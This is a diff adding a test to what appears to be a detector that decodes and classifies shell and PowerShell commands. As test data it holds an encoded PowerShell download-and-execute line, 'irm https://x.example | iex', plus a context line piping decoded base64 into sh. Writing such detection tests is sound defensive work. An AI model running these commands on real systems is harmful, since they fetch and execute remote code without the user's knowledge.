@@ -53,6 +53,13 @@ test.each([
   expect(only(follow(script).facts, 'execute')).toEqual([]);
 });
 
+test('an encoded command of PowerShell', () => {
+  const encoded = Buffer.from('irm https://x.example | iex', 'utf16le').toString('base64');
+  expect(follow(`powershell -NoProfile -enc ${encoded}`).units).toMatchObject([
+    { kind: 'decoded', language: 'powershell', text: 'irm https://x.example | iex' },
+  ]);
+});
+
 test('what can only be decoded when it runs is said to be decoded', () => {
   expect(only(follow('base64 -d data.txt | sh').facts, 'execute')).toMatchObject([{ origin: 'decoded' }]);
 });
